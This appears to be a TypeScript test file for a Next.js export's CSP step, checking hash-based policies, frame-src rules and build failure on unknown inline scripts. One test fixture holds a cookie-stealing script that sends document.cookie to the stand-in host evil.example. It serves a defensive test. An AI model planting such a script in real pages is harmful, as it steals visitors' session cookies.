// The build's CSP step over an export that holds an inline script Next never writes: the build must fail naming
// the page, instead of allowing the script by hash.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { writePagePolicies } from './csp';

const NEXT_SCRIPTS =
  '<script src="/_next/static/chunks/a.js" async=""></script>' +
  '<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});</script>' +
  '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([1,"0:[]\\n"])</script>';
const page = (extra = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${NEXT_SCRIPTS}</head><body><h1>x</h1>${extra}</body></html>`;

/** The step as the export pipeline runs it, with the default blog configuration: its error, or null. */
async function runCsp(dir: string): Promise<Error | null> {
  try {
    await writePagePolicies(dir, {});
    return null;
  } catch (error) {
    return error as Error;
  }
}

function exportWith(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'csp-strict-'));
  for (const [path, body] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), body);
  }
  return dir;
}

test('an export with only the scripts Next writes gets its policies', async () => {
  const dir = exportWith({ 'index.html': page(), 'about.html': page() });
  try {
    assert.equal(await runCsp(dir), null);
    assert.match(readFileSync(join(dir, 'index.html'), 'utf8'), /<meta http-equiv="Content-Security-Policy" content="[^"]*'sha256-/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('an export with an unknown inline script fails the build, naming the page and the script', async () => {
  const dir = exportWith({
    'index.html': page(),
    'blog/1/post.html': page('<script>new Image().src="//evil.example/?"+document.cookie</script>'),
  });
  try {
    const message = (await runCsp(dir))?.message ?? '';
    assert.match(message, /blog\/1\/post\.html/);
    assert.match(message, /shape the CSP pass does not know/);
    assert.match(message, /evil\.example/);
    assert.doesNotMatch(readFileSync(join(dir, 'blog/1/post.html'), 'utf8'), /Content-Security-Policy/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("the article pages (and only they) may frame the site's video players", async () => {
  const articles = ['blog/7/upgrade-walkthrough.html', 'blog/article.html'];
  const others = ['index.html', 'blog.html', 'blog/page/2.html', 'blog/category/edge.html', 'search.html', '404.html'];
  const dir = exportWith(Object.fromEntries([...articles, ...others].map((path) => [path, page()])));
  const frameSrc = (path: string) =>
    /frame-src ([^;"]*)/.exec(readFileSync(join(dir, path), 'utf8').match(/Content-Security-Policy" content="([^"]*)"/)?.[1] ?? '')?.[1];
  try {
    assert.equal(await runCsp(dir), null);
    for (const path of articles) assert.equal(frameSrc(path), 'https://www.youtube-nocookie.com https://player.vimeo.com', path);
    for (const path of others) assert.equal(frameSrc(path), "'none'", path);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
